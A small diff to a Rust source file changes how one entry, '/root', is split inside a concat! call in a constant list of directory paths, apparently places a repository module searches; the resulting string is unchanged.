@@ -8,7 +8,7 @@ use super::repository::{File, Repository};
 const PLACES: [&str; 5] = [
     concat!("/wo", "rk"),
     concat!("/ho", "me"),
-    concat!("/ro", "ot"),
+    concat!("/roo", "t"),
     concat!("/Use", "rs"),
     concat!("../sh", "ared"),
 ];
